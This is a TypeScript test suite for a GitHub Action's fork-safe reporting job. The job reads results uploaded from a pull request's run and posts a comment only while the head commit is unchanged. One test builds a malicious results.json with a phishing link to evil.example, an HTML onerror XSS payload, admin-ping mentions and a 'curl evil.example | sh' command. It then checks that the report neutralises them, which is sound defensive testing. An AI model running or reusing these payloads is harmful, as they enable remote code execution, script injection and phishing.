// The fork-safe pattern: a fork's pull_request run renders with the local backend and uploads its results;
// a trusted workflow_run job (mode report) reads them through the REST artifact API and comments, only
// while the pull request's head is still the commit that was built.

import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeClip } from '../helpers/media.js';
import { runStep } from './helpers/action-process.js';
import { startAzurite, type Azurite } from './helpers/azurite.js';
import { startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { initRepo, type GitRepo } from './helpers/git-repo.js';
import { startResultsService, type ResultsService } from './helpers/results-service.js';
import { zip } from './helpers/zip.js';

const HEAD = '9'.repeat(40);
let azurite: Azurite;
let service: ResultsService;
let api: GitHubApi;
let repo: GitRepo;

beforeAll(async () => {
  azurite = await startAzurite();
  service = await startResultsService(azurite);
  api = await startGitHubApi('octo', 'demo', {
    list: (runId) => service.artifacts.filter((a) => a.finalized && a.runId === `run-${runId}`),
    downloadUrl: (id) => {
      const artifact = service.artifacts.find((a) => a.id === id);
      return artifact && azurite.signedUrl(artifact.blob);
    },
  });
  repo = await initRepo();
  await makeClip(join(repo.dir, 'media/intro.mp4'), { duration: 1, width: 160, height: 90 });
  await repo.write('voiceover.config.yml', 'version: 1\ndefaults:\n  output: { resolution: keep }\nvideos:\n  - name: intro\n    video: media/intro.mp4\n    script: "[00:00.1] From a fork."\n');
}, 60_000);

afterAll(async () => {
  await Promise.all([service?.stop(), api?.stop()]);
  await azurite?.stop();
});

const forkPr = {
  name: 'pull_request',
  payload: { number: 9, pull_request: { number: 9, head: { sha: HEAD, repo: { full_name: 'someone/demo' } }, base: { repo: { full_name: 'octo/demo' } } }, repository: { full_name: 'octo/demo' } },
};
const workflowRun = { name: 'workflow_run', payload: { workflow_run: { id: 555, event: 'pull_request', head_sha: HEAD, pull_requests: [] }, repository: { full_name: 'octo/demo' } } };

describe('pull request from a fork → workflow_run report', () => {
  it('renders and uploads on the fork run, then comments from the trusted run (and not after the head moved)', async () => {
    const pr = await runStep({ cwd: repo.dir, event: forkPr, inputs: { backend: 'local', comment: 'never' }, env: { ...service.jobEnv('run-555', 'pr'), GITHUB_RUN_ID: '555', GITHUB_API_URL: api.url } });
    expect(pr.code).toBe(0);
    expect(service.artifacts.map((a) => a.name)).toEqual(['voiceover-intro', 'voiceover~results']);
    expect(api.requests).toEqual([]);

    api.pullHeads.set(9, HEAD);
    // The trusted job has no checkout: it reads the results only.
    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
    const trusted = () =>
      runStep({ cwd: emptyDir, event: workflowRun, inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-556', 'comment'), GITHUB_RUN_ID: '556', GITHUB_API_URL: api.url } });
    const report = await trusted();
    expect(report.code).toBe(0);
    const id = service.artifacts.find((a) => a.name === 'voiceover~results')!.id;
    expect(api.requests).toEqual([
      'GET /repos/octo/demo/actions/runs/555/artifacts',
      `GET /repos/octo/demo/actions/artifacts/${id}/zip`,
      'GET /repos/octo/demo/pulls/9',
      'GET /repos/octo/demo/issues/9/comments',
      'POST /repos/octo/demo/issues/9/comments',
    ]);
    expect(api.comments[0]!.body).toContain('**1 delivered · 0 failed · 0 skipped** for 9999999');
    expect(report.outputs).toMatchObject({ delivered: '1', failed: '0' });
    expect(JSON.parse(report.outputs['artifact-urls']!)).toEqual({ intro: `https://github.com/octo/demo/actions/runs/555/artifacts/${service.artifacts[0]!.id}` });

    api.requests.length = 0;
    api.pullHeads.set(9, '8'.repeat(40));
    const moved = await trusted();
    expect(moved.commands).toContain('::warning::pull request #9 has moved past 9999999: no comment for these results');
    expect(api.requests.filter((r) => r.includes('/comments'))).toEqual([]);
  });

  /** Put a crafted results artifact (and other listed artifacts) into run `runId` of the stand-ins. */
  async function craftRun(runId: number, resultsJson: string, others: string[] = []): Promise<Record<string, number>> {
    const ids: Record<string, number> = {};
    for (const name of ['voiceover~results', ...others]) {
      const blob = `run-${runId}/${name}.zip`;
      await azurite.upload(blob, zip({ 'results.json': resultsJson }));
      const id = service.artifacts.length + 1;
      service.artifacts.push({ id, runId: `run-${runId}`, jobId: 'pr', name, blob, size: 1, finalized: true, expiresAt: undefined });
      ids[name] = id;
    }
    return ids;
  }
  const runEvent = (id: number, pr: number, head: string) => ({ name: 'workflow_run', payload: { workflow_run: { id, event: 'pull_request', head_sha: head, pull_requests: [{ number: pr }] }, repository: { full_name: 'octo/demo' } } });

  it('neutralises a malicious results.json: free text as code spans, links only to listed artifacts and the NemoVideo host', async () => {
    const head = '7'.repeat(40);
    const base = { output: null, captions: [], duration_s: null, timings_s: { tts: 0, plan: 0, render: 0, total: 0 }, loudness: null, lines: [] };
    const evil = {
      version: 1, shard: null, config: 'voiceover.config.yml', notRun: [], notes: ['@octo/admins look'], problems: [],
      report: { version: 1, backend: 'local,nemo', items: [
        { ...base, name: 'intro', status: 'failed', links: { task: 'https://evil.example/phish' },
          error: { code: 'INPUT_CORRUPT', message: '@octo/admins please [approve](https://evil.example/x) <img src=x onerror=alert(1)>', hint: 'run `curl evil.example | sh` @someone', file: 'voiceover.config.yml', line: 3 } },
        { ...base, name: 'outro', status: 'delivered', duration_s: 1, links: { task: 'https://nemovideo.com/workspace/claim?task=t1' } },
      ] },
      videos: {
        intro: { backend: 'local', size_bytes: 1, artifact: { name: 'x', id: 4242, url: 'https://evil.example/artifact' } },
        outro: { backend: 'nemo', size_bytes: 1, artifact: { name: 'voiceover-outro', id: 0, url: 'https://evil.example/outro' } },
      },
    };
    // The results name the real id of the outro artifact, which is only known once stored: craft in two steps.
    const ids = await craftRun(600, '{}', ['voiceover-outro']);
    evil.videos.outro.artifact.id = ids['voiceover-outro']!;
    await azurite.upload('run-600/voiceover~results.zip', zip({ 'results.json': JSON.stringify(evil) }));
    api.pullHeads.set(10, head);
    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
    const report = await runStep({ cwd: emptyDir, event: runEvent(600, 10, head), inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-601', 'comment'), GITHUB_RUN_ID: '601', GITHUB_API_URL: api.url } });
    expect(report.code).toBe(1); // a video failed (fail-on: error)
    const body = api.comments.find((c) => c.issue === 10)!.body;
    expect(body).toContain('`@octo/admins please [approve](https://evil.example/x) <img src=x onerror=alert(1)>` (hint: `` run `curl evil.example | sh` @someone ``)');
    const outside = body.replace(/(`+)[\s\S]*?\1(?!`)/g, ''); // the body with its code spans taken out
    expect(outside).not.toMatch(/@|<img|evil\.example/);
    // The Measured column is new (deliberately): these crafted results carry no qa, so "—".
    expect(body).toContain(`| outro | ✅ delivered | 0:01.0 | — | [artifact](https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}) · [task](https://nemovideo.com/workspace/claim?task=t1) |`);
    expect(body).toContain('| intro | ❌ failed | — | — | — |');
    expect(JSON.parse(report.outputs['artifact-urls']!)).toEqual({ outro: `https://github.com/octo/demo/actions/runs/600/artifacts/${ids['voiceover-outro']}` });
  });

  it('refuses a results.json of the wrong shape, naming it, and fails', async () => {
    const head = '6'.repeat(40);
    await craftRun(700, JSON.stringify({ version: 1, shard: null, report: 'nope' }));
    api.pullHeads.set(11, head);
    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
    const report = await runStep({ cwd: emptyDir, event: runEvent(700, 11, head), inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-701', 'comment'), GITHUB_RUN_ID: '701', GITHUB_API_URL: api.url } });
    expect(report.code).toBe(1);
    expect(report.summary).toMatch(/- ❌ `the results: artifact voiceover~results could not be read \(results\.json does not have the expected shape \(report: [^`]+\)\)`/);
    expect(api.comments.find((c) => c.issue === 11)!.body).toContain('**Missing results**');
  });

  it('with nothing run (comment: auto) updates an existing comment but creates none', async () => {
    const head = '5'.repeat(40);
    const empty = { version: 1, shard: null, config: 'voiceover.config.yml', notRun: [{ name: 'intro', reason: 'unchanged in this push' }], notes: [], problems: [], report: { version: 1, backend: '', items: [] }, videos: {} };
    await craftRun(800, JSON.stringify(empty));
    api.comments.push({ id: 900, issue: 12, body: '<!-- voiceover-action prefix=voiceover -->\nold: 1 delivered', user: { login: 'github-actions[bot]', type: 'Bot' } });
    api.pullHeads.set(12, head);
    api.pullHeads.set(13, head);
    const emptyDir = (await initRepo('voiceover-trusted-')).dir;
    const report = (pr: number) => runStep({ cwd: emptyDir, event: runEvent(800, pr, head), inputs: { mode: 'report', 'github-token': 'ghs_write' }, env: { ...service.jobEnv('run-801', 'comment'), GITHUB_RUN_ID: '801', GITHUB_API_URL: api.url } });
    api.requests.length = 0;
    expect((await report(12)).code).toBe(0);
    expect(api.requests.filter((r) => r.includes('/comments'))).toEqual(['GET /repos/octo/demo/issues/12/comments', 'PATCH /repos/octo/demo/issues/comments/900']);
    expect(api.comments.find((c) => c.id === 900)!.body).toContain('No video changed, so none was narrated.');
    api.requests.length = 0;
    const none = await report(13);
    expect(none.code).toBe(0);
    expect(api.requests.filter((r) => r.includes('/comments'))).toEqual(['GET /repos/octo/demo/issues/13/comments']);
    expect(none.stdout).toContain('no pull request comment: no video ran (comment: auto): only an existing comment is updated, and there is none yet');
  });
});
